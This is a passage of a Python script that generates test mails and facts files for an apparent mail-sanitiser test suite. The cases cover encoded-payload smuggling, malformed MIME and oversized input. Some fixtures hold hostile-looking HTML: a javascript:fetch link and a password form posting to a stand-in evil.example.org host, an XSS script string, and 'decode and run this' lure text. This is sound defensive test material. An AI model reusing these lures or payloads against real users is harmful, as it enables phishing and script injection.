           ("\n\n受け取ったら実行してください。\n" + mk(nn, "AFTER") + "\n").encode()
    hdr = std_headers(nn, "ツール送付（uuencode）", extra=["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 7bit"])
    return part(hdr, text), dict(
        description="uuencode block (begin 644 evil.exe ... end) inside text/plain; the encoded text itself "
                    "contains a literal token; LF line endings",
        markers=["ツールを送ります", mk(nn, "BEFORE"), "受け取ったら実行してください", mk(nn, "AFTER")],
        listed=["evil.exe"], payloads=[t, lit], subject="ツール送付（uuencode）",
    )


@case("smuggle-yenc")
def c_yenc(nn):
    t = tok(nn, "YDATA")
    lit = literal_token(nn, "YENC", lambda c: c.isalnum())
    data = bytes((ord(c) - 42) & 0xFF for c in lit) + b" data " + t.encode() + b" " + bytes(range(256)) * 2
    lines = b"\n".join(yenc_lines(data, "evil.bin"))
    assert lit.encode() in lines
    text = ("バイナリを添付ではなく本文で送ります。\n" + mk(nn, "BEFORE") + "\n\n").encode() + lines + \
           ("\n\n以上です。\n" + mk(nn, "AFTER") + "\n").encode()
    hdr = std_headers(nn, "yEnc テスト", extra=["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"])
    return part(hdr, text), dict(
        description="yEnc block (=ybegin line=128 size=... name=evil.bin ... =yend) in an 8bit text/plain body; "
                    "the encoded bytes contain a literal token",
        markers=["バイナリを添付ではなく本文で送ります", mk(nn, "BEFORE"), "以上です", mk(nn, "AFTER")],
        listed=["evil.bin"], payloads=[t, lit], subject="yEnc テスト",
    )


@case("smuggle-binhex")
def c_binhex(nn):
    t = tok(nn, "BHDATA")
    lit = literal_token(nn, "BHX", lambda c: c.encode() in HQX and c != ":")
    block = binhex_text("evil.txt", b"data fork " + t.encode() + b" ", lit, b" end of data\r" * 20)
    text = ("Macの古い形式で送ります。\n" + mk(nn, "BEFORE") + "\n\n").encode() + block + \
           ("\nよろしくお願いします。\n" + mk(nn, "AFTER") + "\n").encode()
    hdr = std_headers(nn, "BinHex テスト", extra=["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 7bit"])
    return part(hdr, text), dict(
        description="BinHex 4.0 block in text/plain (payload in the data fork; the 6-bit text contains a literal token)",
        markers=["Macの古い形式で送ります", mk(nn, "BEFORE"), "よろしくお願いします", mk(nn, "AFTER")],
        payloads=[t, lit], subject="BinHex テスト",
    )


@case("smuggle-base64-pe")
def c_b64pe(nn):
    t = tok(nn, "B64PE")
    lit = literal_token(nn, "BSF", lambda c: c.isalnum())
    data = make_pe(t, 800)
    data += b"\x00" * (-len(data) % 57)
    data += base64.b64decode(lit) + bytes(range(100))
    block = b64(data)
    assert lit.encode() in block and block.count(b"\n") >= 10
    text = ("お疲れ様です。\n" + mk(nn, "BEFORE") + "\n下記のデータをデコードして実行してください。\n\n").encode() + block + \
           ("\n以上、よろしくお願いします。\n" + mk(nn, "AFTER") + "\n").encode()
    hdr = std_headers(nn, "データ送付（base64）", extra=["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"])
    nlines = block.count(b"\n")
    return part(hdr, text), dict(
        description=f"Raw base64 block ({nlines} lines) in a text/plain body that decodes to a PE (MZ) file",
        markers=[mk(nn, "BEFORE"), "下記のデータをデコードして実行してください", "以上、よろしくお願いします", mk(nn, "AFTER")],
        payloads=[t, lit], subject="データ送付（base64）",
    )


def big_attachment(nn, kind, size=1500):
    t = tok(nn, kind)
    return t, make_pe(t, size)


@case("malformed-truncated-multipart")
def c_trunc(nn):
    t, data = big_attachment(nn, "TRUNC", 3000)
    enc = b64(data)
    cut = enc[: len(enc) // 2 + 17]  # mid-line, mid-quantum
    assert t.encode() in base64.b64decode(enc[: (len(enc) // 2) // 77 * 77])
    body = multipart("trunc-42", [text_part(f"途中で切れたメールです。\n{mk(nn, 'TRUNC')}\n"),
                                  part(['Content-Type: application/zip; name="report.zip"', "Content-Transfer-Encoding: base64",
                                        'Content-Disposition: attachment; filename="report.zip"'], b"")], close=False)
    raw = part(std_headers(nn, "途中で切れたメール", extra=['Content-Type: multipart/mixed; boundary="trunc-42"']), body)
    raw = raw.rstrip(b"\n") + b"\n" + cut  # no closing boundary, no final newline
    return raw, dict(
        description="Truncated multipart: no closing boundary, the attachment ends mid-base64 without a final newline",
        markers=["途中で切れたメールです", mk(nn, "TRUNC")], listed=["report.zip"], payloads=[t], subject="途中で切れたメール",
    )


def broken_mixed(nn, boundary, kind, fname, text):
    t, data = big_attachment(nn, kind)
    parts = [text_part(text), attach(data, "application/octet-stream", fname)]
    return t, multipart(boundary, parts)


@case("malformed-missing-boundary")
def c_nobnd(nn):
    t, body = broken_mixed(nn, "=_lost_boundary", "NOBND", "nobnd.exe", f"boundary 指定がありません。\n{mk(nn, 'NOBND')}\n")
    hdr = std_headers(nn, "boundary なし", extra=["Content-Type: multipart/mixed"])
    fixed = std_headers(nn, "boundary なし", extra=['Content-Type: multipart/mixed; boundary="=_lost_boundary"'])
    return part(hdr, body), dict(
        description="multipart/mixed without a boundary parameter although the body has delimiter lines and a base64 attachment",
        markers=[mk(nn, "NOBND")], payloads=[t], subject="boundary なし", _repair=part(fixed, body),
    )


@case("malformed-boundary-never-used")
def c_unused(nn):
    text = f"""boundary は宣言されていますが、本文に区切りがありません。
本文はそのまま読めるべきです。
{mk(nn, 'UNUSED')}
"""
    hdr = std_headers(nn, "使われない boundary", extra=['Content-Type: multipart/mixed; boundary="never-used-44"',
                                                      "Content-Transfer-Encoding: 8bit"])
    fixed = std_headers(nn, "使われない boundary", extra=["Content-Type: text/plain; charset=UTF-8",
                                                        "Content-Transfer-Encoding: 8bit"])
    return part(hdr, text), dict(
        description="multipart/mixed with a boundary that never occurs; the whole body is 'preamble' text that must be shown",
        markers=["本文はそのまま読めるべきです", mk(nn, "UNUSED")], subject="使われない boundary",
        _repair=part(fixed, text),
    )


@case("malformed-same-boundary-nested")
def c_samebnd(nn):
    t, data = big_attachment(nn, "SAMEBND")
    inner = multipart("same", [text_part(f"内側と外側で同じ boundary です。\n{mk(nn, 'SAME')}\n"),
                               html_part("<p>HTML版</p>")])
    body = multipart("same", [part(['Content-Type: multipart/alternative; boundary="same"'], inner),
                              attach(data, "application/octet-stream", "same.exe")])
    hdr = std_headers(nn, "同じ boundary の入れ子", extra=['Content-Type: multipart/mixed; boundary="same"'])
    return part(hdr, body), dict(
        description="multipart/mixed containing multipart/alternative with the identical boundary string; the "
                    "attachment may end up in a part or in the epilogue depending on the parse, it must not leak",
        markers=[mk(nn, "SAME")], payloads=[t], subject="同じ boundary の入れ子",
    )


@case("malformed-duplicate-content-type")
def c_dupct(nn):
    t, body = broken_mixed(nn, "dup-ct-46", "DUPCT", "dup-ct.exe", f"Content-Type が二つあります。\n{mk(nn, 'DUPCT')}\n")
    hdr = std_headers(nn, "Content-Type 重複", extra=["Content-Type: text/plain; charset=UTF-8",
                                                    'Content-Type: multipart/mixed; boundary="dup-ct-46"'])
    fixed = std_headers(nn, "Content-Type 重複", extra=['Content-Type: multipart/mixed; boundary="dup-ct-46"'])
    return part(hdr, body), dict(
        description="Two Content-Type headers: text/plain first, multipart/mixed second; the attachment must be removed and listed",
        markers=[mk(nn, "DUPCT")], listed=["dup-ct.exe"], payloads=[t], subject="Content-Type 重複", _repair=part(fixed, body),
    )


@case("malformed-duplicate-boundary-param")
def c_dupbnd(nn):
    t, body = broken_mixed(nn, "second-bnd-47", "DUPBND", "dup-bnd.exe", f"boundary パラメータが二つあります。\n{mk(nn, 'DUPBND')}\n")
    hdr = std_headers(nn, "boundary 重複", extra=['Content-Type: multipart/mixed; boundary="first-bnd-47"; boundary="second-bnd-47"'])
    fixed = std_headers(nn, "boundary 重複", extra=['Content-Type: multipart/mixed; boundary="second-bnd-47"'])
    return part(hdr, body), dict(
        description="Two boundary= parameters; only the second one is used in the body",
        markers=[mk(nn, "DUPBND")], listed=["dup-bnd.exe"], payloads=[t], subject="boundary 重複", _repair=part(fixed, body),
    )


@case("malformed-base64-cte-on-multipart")
def c_cte_mp(nn):
    t, body = broken_mixed(nn, "cte-48", "CTEMP", "cte-mp.exe", f"multipart に base64 が指定されています。\n{mk(nn, 'CTEMP')}\n")
    hdr = std_headers(nn, "multipart に CTE", extra=['Content-Type: multipart/mixed; boundary="cte-48"',
                                                   "Content-Transfer-Encoding: base64"])
    fixed = std_headers(nn, "multipart に CTE", extra=['Content-Type: multipart/mixed; boundary="cte-48"'])
    return part(hdr, body), dict(
        description="Content-Transfer-Encoding: base64 on a multipart whose body is not encoded (the CTE must be ignored)",
        markers=[mk(nn, "CTEMP")], listed=["cte-mp.exe"], payloads=[t], subject="multipart に CTE", _repair=part(fixed, body),
    )


@case("malformed-multipart-body-base64")
def c_mp_b64(nn):
    t, body = broken_mixed(nn, "mpb64-49", "MPB64", "mp-b64.exe", f"multipart 本体が base64 です。\n{mk(nn, 'MPB64')}\n")
    hdr = std_headers(nn, "base64 化された multipart", extra=['Content-Type: multipart/mixed; boundary="mpb64-49"',
                                                            "Content-Transfer-Encoding: base64"])
    fixed = std_headers(nn, "base64 化された multipart", extra=['Content-Type: multipart/mixed; boundary="mpb64-49"'])
    return part(hdr, b64(body)), dict(
        description="A multipart whose whole body really is base64-encoded (evasion); no delimiter is visible "
                    "without decoding. Only the payload rule is asserted",
        payloads=[t], subject="base64 化された multipart", _repair=part(fixed, body),
    )


@case("bare-lf-everywhere", eol="lf")
def c_lf(nn):
    t, data = big_attachment(nn, "BARELF")
    return simple_attachment_mail(nn, "LF 改行のメール", f"すべての行が LF で終わります。\n{mk(nn, 'LF')}\n",
                                  [(attach(data, "application/octet-stream", "lf.exe"), "lf.exe", [t])],
                                  description="Every line ends in bare LF (headers, boundaries, base64)",
                                  extra_markers=["すべての行が"])


@case("mixed-line-endings", eol="mixed")
def c_mixed_eol(nn):
    t, data = big_attachment(nn, "MIXEOL")
    raw, facts = simple_attachment_mail(nn, "改行コード混在", f"CRLF と LF が混在しています。\n{mk(nn, 'MIXEOL')}\n",
                                        [(attach(data, "application/octet-stream", "mixed.exe"), "mixed.exe", [t])],
                                        description="Header block in CRLF, body lines alternating LF and CRLF",
                                        extra_markers=["が混在しています"])
    head, _, body = raw.partition(b"\n\n")
    head = head.replace(b"\n", b"\r\n") + b"\r\n\r\n"
    lines = body.split(b"\n")
    body = b"".join(line + (b"\r\n" if i % 2 else b"\n") for i, line in enumerate(lines[:-1]))
    return head + body, facts


@case("bare-cr-line-ends", eol="cr")
def c_cr(nn):
    t, data = big_attachment(nn, "BARECR")
    raw, facts = simple_attachment_mail(nn, "CR 改行のメール", f"すべての行が CR だけで終わります。\n{mk(nn, 'CR')}\n",
                                        [(attach(data, "application/octet-stream", "cr.exe"), "cr.exe", [t])],
                                        description="Every line ends in a bare CR (classic Mac)",
                                        extra_markers=["だけで終わります"])
    return raw.replace(b"\n", b"\r"), facts


@case("nul-bytes-in-body")
def c_nul(nn):
    text = ("本文に NUL バイトが含まれています。\n\x00\x00\x00\n" + mk(nn, "NUL") + "\n" + "途中\x00にも\x00あります\n"
            + "NULの後も読めること\n")
    hdr = std_headers(nn, "NUL バイト", extra=["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"])
    return part(hdr, text.encode()), dict(
        description="NUL bytes in an 8bit text/plain body (own lines and inside a line)",
        markers=["本文に", mk(nn, "NUL"), "NULの後も読めること"], subject="NUL バイト",
    )


@case("deep-multipart-200")
def c_deep(nn):
    t, data = big_attachment(nn, "DEEP200", 600)
    inner = attach(data, "application/octet-stream", "deep.exe")
    for depth in range(200, 0, -1):
        inner = part([f'Content-Type: multipart/mixed; boundary="d{depth}"'], multipart(f"d{depth}", [inner]))
    body = multipart("d0", [text_part(f"入れ子が200段あります。\n{mk(nn, 'DEEP')}\n"), inner])
    hdr = std_headers(nn, "200段の入れ子", extra=['Content-Type: multipart/mixed; boundary="d0"'])
    return part(hdr, body), dict(
        description="Multipart nested 200 deep; marker in the top-level text, payload attachment at the bottom",
        markers=["入れ子が200段あります", mk(nn, "DEEP")], payloads=[t], subject="200段の入れ子",
    )


@case("many-parts-10000")
def c_many(nn):
    t, data = big_attachment(nn, "MANY", 600)
    parts = [text_part(f"パートが一万個あります。\n{mk(nn, 'MANY')}\n")]
    parts += [b"\n" + str(i % 10).encode() + b"\n" for i in range(2, 10000)]
    parts.append(attach(data, "application/octet-stream", "last.exe"))
    assert len(parts) == 10000
    body = multipart("b", parts)
    hdr = std_headers(nn, "一万パート", extra=['Content-Type: multipart/mixed; boundary="b"'])
    return part(hdr, body), dict(
        description="10,000 parts (9,998 header-less one-character text parts); payload attachment is the last part",
        markers=["パートが一万個あります", mk(nn, "MANY")], payloads=[t], subject="一万パート",
    )


@case("huge-header-1mib")
def c_hugehdr(nn):
    junk = ("junk-0123456789abcdef-" * 50000)[: 1024 * 1024]
    hdr = std_headers(nn, None, extra=[])
    hdr.insert(3, "X-Junk: " + junk)
    hdr.append("Subject: " + ew("巨大なヘッダーの後の件名"))
    hdr += ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]
    return part(hdr, f"ヘッダーが1MiBあっても本文は読めること。\n{mk(nn, 'HUGEHDR')}\n"), dict(
        description="A single unfolded 1 MiB X-Junk header line, with Subject after it",
        markers=["本文は読めること", mk(nn, "HUGEHDR")], subject="巨大なヘッダーの後の件名",
    )


@case("message-partial")
def c_partial(nn):
    t, data = big_attachment(nn, "PARTIAL", 2000)
    enc = b64(data)
    frag = part(["Subject: =?UTF-8?B?" + base64.b64encode("分割された元メール".encode()).decode() + "?=",
                 "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="inner-partial"'],
                b"--inner-partial\nContent-Type: text/plain; charset=UTF-8\n\nfragment text\n--inner-partial\n"
                b'Content-Type: application/octet-stream; name="tool.exe"\nContent-Transfer-Encoding: base64\n\n'
                + enc[: len(enc) * 2 // 3 // 77 * 77])
    hdr = std_headers(nn, "分割メッセージ (1/2)",
                      extra=['Content-Type: message/partial; id="partial.20240507.55@mail.example.co.jp"; number=1; total=2'])
    return part(hdr, frag), dict(
        description="Top-level message/partial (fragment 1 of 2) whose fragment holds a base64 executable",
        payloads=[t], subject="分割メッセージ (1/2)",
    )


@case("smime-signed")
def c_signed(nn):
    t = tok(nn, "P7S")
    sig = b"\x30\x82\x05\x4b\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0" + t.encode() + bytes(range(200))
    body = multipart("----signed-58", [
        text_part(f"電子署名付きのメールです。\n{mk(nn, 'SIGNED')}\n", cte="base64"),
        part(['Content-Type: application/pkcs7-signature; name="smime.p7s"', "Content-Transfer-Encoding: base64",
              'Content-Disposition: attachment; filename="smime.p7s"', "Content-Description: S/MIME Cryptographic Signature"],
             b64(sig)),
    ], preamble="This is an S/MIME signed message")
    hdr = std_headers(nn, "署名付きメール", extra=['Content-Type: multipart/signed; protocol="application/pkcs7-signature";\n'
                                                 ' micalg=sha-256; boundary="----signed-58"'])
    return part(hdr, body), dict(
        description="multipart/signed with application/pkcs7-signature; the text survives, smime.p7s is listed",
        markers=["電子署名付きのメールです", mk(nn, "SIGNED")], listed=["smime.p7s"], payloads=[t], subject="署名付きメール",
    )


@case("smime-encrypted")
def c_p7m(nn):
    t = tok(nn, "P7M")
    data = b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0\x80" + t.encode() + bytes(reversed(range(256)))
    hdr = std_headers(nn, "暗号化メール", extra=['Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
                                               "Content-Transfer-Encoding: base64",
                                               'Content-Disposition: attachment; filename="smime.p7m"'])
    return part(hdr, b64(data)), dict(
        description="S/MIME encrypted mail (top-level application/pkcs7-mime enveloped-data), listed as smime.p7m",
        listed=["smime.p7m"], payloads=[t], subject="暗号化メール",
    )


@case("garbage-binary", eol="binary")
def c_garbage(nn):
    rng = random.Random(31337)
    nonprint = [b for b in range(256) if not (32 <= b < 127) and b not in (9, 10, 13)]
    blob = bytearray(b"\x89\x00\xff\xfe\x01\x02")
    for _ in range(4000):
        blob.append(rng.choice(nonprint) if rng.random() < 0.85 else rng.randrange(256))
    token = f"SALVAGE-ME-{nn:02d}"
    blob[1800:1800] = b"\x00\x01" + f"{token} readable text in binary noise".encode() + b"\x00\x02"
    return bytes(blob), dict(
        description="Not a mail: random binary bytes (fixed seed) with one printable ASCII run; binary input yields only the notice (size, SHA-256, type), nothing salvaged",
        payloads=[token],
    )


@case("html-big-200k")
def c_bightml(nn):
    ts, tc = tok(nn, "SCRIPT"), tok(nn, "COMMENT")
    rows = []
    for i in range(1, 1801):
        rows.append(f"<tr><td>{i}</td><td>項目{i}の説明文です。市民サービスの一覧表。</td><td>担当課{i % 37}</td></tr>")
        if i == 900:
            rows.append(f"<!-- {tc} --><tr><td colspan=3>{mk(nn, 'MIDDLE')}</td></tr>")
    markup = (f"<html><head><meta charset=\"utf-8\"></head><body>\n<h1>{mk(nn, 'START')}</h1>\n<table>\n"
              + "\n".join(rows) + f"\n</table>\n<p>{mk(nn, 'END')}</p>\n<script>{ts}</script>\n</body></html>\n")
    assert 180_000 < len(markup.encode()) < 260_000, len(markup.encode())
    hdr = std_headers(nn, "大きなHTMLメール", extra=["Content-Type: text/html; charset=UTF-8", "Content-Transfer-Encoding: base64"])
    return part(hdr, b64(markup.encode())), dict(
        description=f"~{len(markup.encode()) // 1024} KB HTML table (1,800 rows); markers at start, middle and end",
        markers=[mk(nn, "START"), mk(nn, "MIDDLE"), mk(nn, "END"), "項目1799の説明文です"], payloads=[ts, tc],
        subject="大きなHTMLメール",
    )


@case("html-deep-10000-div")
def c_deephtml(nn):
    ts = tok(nn, "SCRIPT")
    opens = "\n".join("<div>" * 100 for _ in range(100))
    closes = "\n".join("</div>" * 100 for _ in range(100))
    markup = (f"<html><body>\n<p>深い入れ子の前の本文です。</p>\n<p>{mk(nn, 'TOP')}</p>\n" + opens
              + f"\n<script>{ts}</script>深いところのテキスト\n" + closes + "\n</body></html>\n")
    hdr = std_headers(nn, "深い入れ子のHTML", extra=["Content-Type: text/html; charset=UTF-8", "Content-Transfer-Encoding: 8bit"])
    return part(hdr, markup), dict(
        description="HTML with 10,000 nested <div>; marker before the nesting, <script> payload at the bottom",
        markers=["深い入れ子の前の本文です", mk(nn, "TOP")], payloads=[ts], subject="深い入れ子のHTML",
    )


@case("text-plain-with-script-tag")
def c_textscript(nn):
    text = f"""開発チームの皆様

フォームの入力値をそのまま表示すると、次の文字列でスクリプトが実行されます。
<script>alert(63)</script>
必ずエスケープしてください。
{mk(nn, 'TEXTSCRIPT')}
"""
    hdr = std_headers(nn, "XSS の注意喚起", extra=["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"])
    return part(hdr, text), dict(
        description="text/plain that literally contains <script>...</script>: it is text and must stay",
        markers=["<script>alert(63)</script>", "必ずエスケープしてください", mk(nn, "TEXTSCRIPT")], subject="XSS の注意喚起",
    )


@case("html-active-content")
def c_active(nn):
    p = {k: tok(nn, k) for k in ("JSURL", "DATAURI", "ONCLICK", "SVG", "IFRAME")}
    data_uri = base64.b64encode(make_png(p["DATAURI"])).decode()
    markup = f"""<html><head><meta http-equiv="refresh" content="30;url=https://evil.example.org/refresh"></head><body>
<p>{mk(nn, 'ACTIVE')}</p>
<p><a href="javascript:fetch('https://evil.example.org/{p["JSURL"]}')">明細を確認</a></p>
<p><img src="data:image/png;base64,{data_uri}" alt="データ画像"></p>
<p><button onclick="location='{p["ONCLICK"]}'">送信ボタン</button></p>
<svg xmlns="http://www.w3.org/2000/svg"><script>alert('{p["SVG"]}')</script></svg>
<iframe srcdoc="&lt;p&gt;{p["IFRAME"]}&lt;/p&gt;" src="https://evil.example.org/frame"></iframe>
<form action="https://evil.example.org/collect" method="post"><p>パスワード入力欄</p><input type="password" name="pw"></form>
<object data="https://evil.example.org/x.swf"></object><embed src="https://evil.example.org/y.swf">
</body></html>
"""
    hdr = std_headers(nn, "アクティブコンテンツ", extra=["Content-Type: text/html; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable"])
    return part(hdr, qp(markup.encode())), dict(
        description="HTML active content: javascript: link, data: URI image, onclick, <svg><script>, iframe srcdoc, form, object/embed",
        markers=[mk(nn, "ACTIVE"), "明細を確認", "データ画像", "送信ボタン", "パスワード入力欄"],
        payloads=list(p.values()), subject="アクティブコンテンツ",
    )


# --------------------------------------------------------------------------------------------
# Writing
# --------------------------------------------------------------------------------------------


def toml_str(s: str) -> str:
    out = []
    for ch in s:
        o = ord(ch)
        if ch == "\\":
            out.append("\\\\")
        elif ch == '"':
            out.append('\\"')
        elif o < 0x20 or o == 0x7F or 0x202A <= o <= 0x202E or 0x2066 <= o <= 0x2069:
            out.append(f"\\u{o:04X}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def facts_toml(f: dict) -> str:
    lines = [f"description = {toml_str(f['description'])}"]
    for key in ("markers", "listed", "payloads"):
        vals = f.get(key) or []
        if vals:
            lines.append(f"{key} = [")
            lines += [f"  {toml_str(v)}," for v in vals]
            lines.append("]")
    if f.get("subject") is not None:
        lines.append(f"subject = {toml_str(f['subject'])}")
    return "\n".join(lines) + "\n"


def finalize(raw: bytes, eol: str) -> bytes:
    if eol == "crlf":
        return raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    return raw


def build():
    OUT.mkdir(parents=True, exist_ok=True)
    for old in OUT.glob("*"):
        if old.suffix in (".eml", ".toml"):
            old.unlink()
    built = []
    for idx, (name, eol, fn) in enumerate(CASES, 1):
        stem = f"{idx:02d}-{name}"
        raw, facts = fn(idx)
        raw = finalize(raw, eol)
        (OUT / f"{stem}.eml").write_bytes(raw)
        (OUT / f"{stem}.toml").write_text(facts_toml(facts), encoding="utf-8")
        built.append((stem, eol, raw, facts))
    return built


README_HEAD = """# mugai test corpus

`mails/` holds hand-crafted test mails, one `NN-short-name.eml` per case, each with a facts file
`NN-short-name.toml` next to it. Everything here is generated by `generate.py` (Python 3 standard
library only, deterministic); edit the generator, not the files, and run

    python3 testdata/generate.py          # regenerate all cases, then verify them
    python3 testdata/generate.py --check  # only verify what is on disk

Besides `mails/`, each case group has a folder of its own, written by its own generator
(same facts format, also deterministic, standard library only): `labels/` (`gen_labels.py`:
parts judged by content, not labels), `smuggle/` (`gen_smuggle.py`: encoded payloads in any
shape, plus false-positive guards; its own README lists the cases), `headers/`, `links/` and
`hidden/` (`gen_links.py`: header allow-list, live links, hidden HTML), `charsets/`
(`gen_charsets.py`: ISO-2022-JP as mailers write it). `tests/corpus.rs` runs every folder
except `regressions/` (inputs without facts). Optional facts used by the groups: `absent`
(literal strings that must not be in the output), `min_removed` / `max_removed` (bounds on
the report's removed items) and `changed = true` (the output must not be labelled clean).

This README is regenerated too. The generator verifies every case with Python's `email`
package: each marker occurs in a decoded body part (or archive entry name), each listed name is
the decoded file name of a part, each payload token is really present in the mail in some form
(raw, base64, quoted-printable, inside a ZIP, uuencode, yEnc or BinHex), so an "absent" check in
the tests is never vacuous.

## Facts format

```toml
description = "what this case tests"
markers  = ["text that must appear (decoded, as UTF-8) in the sanitised output body"]
listed   = ["display names the removal notice must list, decoded (RFC 2047/2231), e.g. 請求書.pdf"]
payloads = ["ASCII tokens that must NOT appear in the output in any encoding"]
subject  = "the decoded Subject the output must carry"   # optional
```

Empty lists are omitted; a missing `subject` means the case makes no claim about it (only the
garbage case has no Subject at all).

* **markers** are short (≤ 30 characters, no inner line breaks), so they survive HTML-to-text
  conversion with wrapping at 76 columns. Link markers are the defanged form the sanitiser must
  show, e.g. `https://evil.example.com/x` → `hxxps://evil[.]example[.]com/x` (`http` → `hxxp`, every
  `.` in the host → `[.]`). A link whose visible text differs from its `href` must show the real
  `href`. Archive entry names (`attach-zip`) are markers because the notice is part of the body.
* **listed** names are checked as substrings of the output body (the notice). For a name with
  U+202E RIGHT-TO-LEFT OVERRIDE only the part before U+202E is listed (the sanitiser makes bidi
  controls visible, so what follows is rendered differently). For the 300-character name
  (`filename-very-long`) only the leading part is listed.
* **payloads** are tokens (≥ 12 characters, unique per case) placed only where content must be
  removed: attachments (before base64/QP encoding), `<script>`, `<style>`, HTML comments,
  `<title>`, hidden elements, event handlers, `javascript:`/`data:` URLs, and uuencode, yEnc,
  BinHex and raw base64 blocks in text bodies. Tests check the output raw, base64-decoded and
  quoted-printable-decoded. For uuencode, yEnc, BinHex and base64 blocks there are two tokens: one
  inside the decoded data and one that is literally visible in the *encoded* text
  (`PAYLOADnnXXXLIT....`), so leaving the encoded block in the body fails the check even without
  decoding it.
* Line endings: most files use CRLF; the ones marked LF use bare LF, case `mixed-line-endings`
  mixes both and `bare-cr-line-ends` uses bare CR.

Default-policy assumptions behind the facts: the sender's text/plain is preferred in
multipart/alternative (so the HTML-only deceptive link of the sample is not rendered by default),
MIME depth limit 32, part limit 1000, HTML depth limit 256, at most 100 notice items.

`01-sample-ja-html-attachments.eml` is the realistic demo mail used in the top-level README: a
municipal notice (UTF-8 8bit text + quoted-printable HTML with a table and a link whose text shows
`https://www.city.example.lg.jp/` but whose `href` is `https://evil.example.com/login`), an `.xlsx`
with a Japanese RFC 2231 name and a PDF with an ISO-2022-JP RFC 2047 name.

Case numbers follow the order of the `@case` functions in `generate.py`; the file name after the
number is stable, so refer to cases by name in tests where possible.

## Cases

| file | EOL | what it tests |
|---|---|---|
"""


def write_readme(built):
    rows = []
    for stem, eol, raw, facts in built:
        desc = facts["description"].replace("|", "/").replace("<", "&lt;").replace(">", "&gt;").replace("*", "\\*")
        rows.append(f"| `{stem}.eml` | {eol.upper()} | {desc} |")
    README.write_text(README_HEAD + "\n".join(rows) + "\n", encoding="utf-8")


# --------------------------------------------------------------------------------------------
# Verification
# --------------------------------------------------------------------------------------------


def b64_runs(blob: bytes) -> list[bytes]:
    out = []
    for m in re.finditer(rb"(?:[A-Za-z0-9+/]{4,}={0,2}[ \t]*(?:\r\n|\r|\n)?)+", blob):
        s = re.sub(rb"[\s]", b"", m.group(0))
        if len(s) < 16:
            continue
        for shift in range(4):
            chunk = s[shift:]
            chunk = chunk[: len(chunk) // 4 * 4]
            try:
                out.append(base64.b64decode(chunk))
            except binascii.Error:
                pass
    return out


def zip_blobs(blob: bytes) -> list[bytes]:
    if not blob.startswith(b"PK"):
        return []
    out = []
    try:
        with zipfile.ZipFile(io.BytesIO(blob)) as zf:
            for zi in zf.infolist():
                out.append(zi.filename.encode())
    except Exception:
        pass
    return out


def leaves(raw: bytes):
    msg = email.message_from_bytes(raw)
    for p in msg.walk():
        if p.is_multipart():
            continue
        payload = p.get_payload(decode=True)
        if payload is None:
            pl = p.get_payload()
            payload = pl.encode("utf-8", "surrogateescape") if isinstance(pl, str) else b""
        yield p, payload


def find_payload(raw: bytes, token: str, repair: bytes | None) -> str | None:
    t = token.encode()
    if t in raw:
        return "raw"
    blobs = []
    for src in (raw, repair) if repair else (raw,):
        for p, payload in leaves(src):
            blobs.append(payload)
    for b in blobs:
        if t in b:
            return "mime-decoded"
    for b in blobs + [raw]:
        if any(t in x for x in b64_runs(b)):
            return "base64-run"
    if t in quopri.decodestring(raw):
        return "qp"
    if any(t in x for x in uu_decode_blocks(raw)):
        return "uudecode"
    if any(t in x for x in yenc_decode_blocks(raw)):
        return "ydecode"
    if any(t in x for x in binhex_decode_blocks(raw)):
        return "binhex"
    return None


class Visible(html.parser.HTMLParser):
    """Rough model of what an HTML-to-text converter shows: text, alt text, http(s) hrefs."""

    SKIP = {"script", "style", "title", "head", "svg", "iframe", "noscript", "object", "template"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.out = []
        self.stack = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag in ("img", "input", "br", "hr", "meta", "link", "embed", "source", "wbr"):
            if tag == "img" and a.get("alt") and not self.hidden():
                self.out.append(a["alt"])
            return
        hidden = tag in self.SKIP or "display:none" in (a.get("style") or "").replace(" ", "")
        self.stack.append((tag, hidden))
        if tag == "a" and re.match(r"https?://", a.get("href") or "") and not self.hidden():
            self.out.append(a["href"])

    def handle_endtag(self, tag):
        for i in range(len(self.stack) - 1, -1, -1):
            if self.stack[i][0] == tag:
                del self.stack[i:]
                break

    def hidden(self):
        return any(h for _, h in self.stack)

    def handle_data(self, data):
        if not self.hidden():
            self.out.append(data)


def visible_html(markup: str) -> str:
    v = Visible()
    v.feed(markup)
    v.close()
    return "\n".join(v.out)


def text_corpus(raw: bytes) -> str:
    texts = []
    for p, payload in leaves(raw):
        ct = p.get_content_type()
        if ct == "text/html":
            texts.append(visible_html(decode_cs(payload, p.get_content_charset() or "us-ascii")))
        elif ct.startswith("text/"):
            texts.append(decode_cs(payload, p.get_content_charset() or "us-ascii"))
        for n in zip_blobs(payload):
            texts.append(n.decode("utf-8", "replace"))
    return "\n".join(texts)


def refang(s: str) -> str:
    return s.replace("[.]", ".").replace("hxxp", "http")


def filenames(raw: bytes) -> list[str]:
    out = []
    for p, _ in leaves(raw):
        for v in (p.get_filename(), p.get_param("name")):
            if v is None:
                continue
            if isinstance(v, tuple):
                v = email.utils.collapse_rfc2231_value(v)
            out.append(decode_rfc2047(str(v)))
    return out


def raw_subject(raw: bytes) -> str | None:
    ends = [i for i in (raw.find(b"\r\n\r\n"), raw.find(b"\n\n"), raw.find(b"\r\r")) if i >= 0]
    head = raw[: min(ends)] if ends else raw
    head = re.sub(rb"(\r\n|\n|\r)(?=[ \t])", b"", head)
    for line in re.split(rb"\r\n|\n|\r", head):
        if line[:8].lower() == b"subject:":
            v = line[8:].strip()
            if not v.isascii():
                try:
                    return v.decode("utf-8")
                except UnicodeDecodeError:
                    return v.decode("cp932")
